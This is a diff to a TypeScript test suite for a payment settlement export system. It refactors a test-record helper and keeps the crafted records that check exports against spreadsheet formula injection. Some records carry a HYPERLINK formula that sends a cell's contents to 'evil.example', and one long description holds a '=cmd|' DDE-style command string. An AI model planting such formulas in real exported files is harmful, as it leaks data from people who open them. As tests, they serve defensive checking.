@@ -44,6 +44,7 @@ import {
 import { openSandbox, type OpenSandbox } from '../support/sandbox';
 import { syncRunInto } from '../support/settlement-run';
 import { requireSystem } from '../support/system';
+import { craftedRecord } from '../support/crafted-records';
 
 const PER_DAY = 1500;
 let sb: OpenSandbox;
@@ -346,33 +347,6 @@ function ruleCounts(where: string): Record<string, number> {
 
 // ---- crafted records ---------------------------------------------------------------------------------------
 
-/** An ordinary record of the crafted gateway; amounts obey the settlement formula with CGST, SGST, IGST apart. */
-function crafted(n: number, day: string, fields: Partial<SettlementRecord> = {}): SettlementRecord {
-  const ss = String(n % 60).padStart(2, '0');
-  return {
-    pg: 'crafted',
-    order_id: `ord_crafted_${n}`,
-    pg_transaction_id: `txn_crafted_${n}`,
-    order_date: `${addDays(day, -1)} 09:15:${ss}`,
-    settlement_date: `${day} 18:30:${ss}`,
-    utr: `UTR${String(n).padStart(9, '0')}`,
-    order_status: 'success',
-    pg_status: 'success',
-    payment_mode: 'UPI',
-    amount: 1_000_001,
-    mer_service_fee: 2_345,
-    mer_service_tax: 600,
-    cgst: 101,
-    sgst: 202,
-    igst: 297,
-    merchant_subvention_amount: 7,
-    settled_amount: 997_063,
-    dispute_id: null,
-    description: null,
-    ...fields,
-  };
-}
-
 const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
 const LEADING_ZEROS = '000123456789012345678';
 const LONG_DIGITS = '12345678901234567890';
@@ -380,15 +354,15 @@ const VANISHING = 'txn_crafted_gone';
 
 function craftedRecords(day: string): SettlementRecord[] {
   return [
-    crafted(1, day, {
+    craftedRecord(1, day, {
       pg_transaction_id: LEADING_ZEROS,
       order_id: '0042',
       utr: '000000000001234567890',
       dispute_id: '00991',
       description: 'safe = text, <&>"\' ]]> नमस्ते ₹',
     }),
-    crafted(2, day, { pg_transaction_id: '9007199254740993', order_id: LONG_DIGITS, utr: '1.5E+3' }),
-    crafted(3, day, {
+    craftedRecord(2, day, { pg_transaction_id: '9007199254740993', order_id: LONG_DIGITS, utr: '1.5E+3' }),
+    craftedRecord(3, day, {
       amount: 5,
       mer_service_fee: 0,
       mer_service_tax: 0,
@@ -399,7 +373,7 @@ function craftedRecords(day: string): SettlementRecord[] {
       settled_amount: 5,
       bank_reference: '000777',
     }),
-    crafted(4, day, {
+    craftedRecord(4, day, {
       order_status: 'refund',
       amount: -250_050,
       mer_service_fee: 0,
@@ -411,9 +385,9 @@ function craftedRecords(day: string): SettlementRecord[] {
       settled_amount: -250_050,
     }),
     // Breaks the tax breakdown (a difference of 50 paise) and, with it, the settled formula.
-    crafted(5, day, { cgst: 100, sgst: 200, igst: 250, settled_amount: 990_000 }),
+    craftedRecord(5, day, { cgst: 100, sgst: 200, igst: 250, settled_amount: 990_000 }),
     ...FORMULA_PREFIXES.map((p, i) =>
-      crafted(10 + i, day, {
+      craftedRecord(10 + i, day, {
         pg_transaction_id: `${p}${10 + i}`,
         order_id: `${p}HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
         utr: `${p}1+1`,
@@ -422,7 +396,7 @@ function craftedRecords(day: string): SettlementRecord[] {
         payment_mode: i === 0 ? '@UPI' : 'UPI',
       }),
     ),
-    crafted(30, day, { pg_transaction_id: VANISHING, dispute_id: 'dsp_gone' }),
+    craftedRecord(30, day, { pg_transaction_id: VANISHING, dispute_id: 'dsp_gone' }),
   ];
 }
 
@@ -1008,8 +982,8 @@ describe('text longer than a cell holds', () => {
     const other = openCache(join(freshDir(), 'long.sqlite'));
     const long = '=cmd|x;@SUM(1)\u0000\u001b ' + 'x'.repeat(40_000) + ' end';
     try {
-      const records = Array.from({ length: 2500 }, (_, n) => crafted(n, day));
-      records.push(crafted(9999, day, { description: long }));
+      const records = Array.from({ length: 2500 }, (_, n) => craftedRecord(n, day));
+      records.push(craftedRecord(9999, day, { description: long }));
       syncRunInto(other, { [day]: records }, records.length);
       const folder = freshDir();
       const job = (file: string, format: ExportFormat): ExportJob => ({
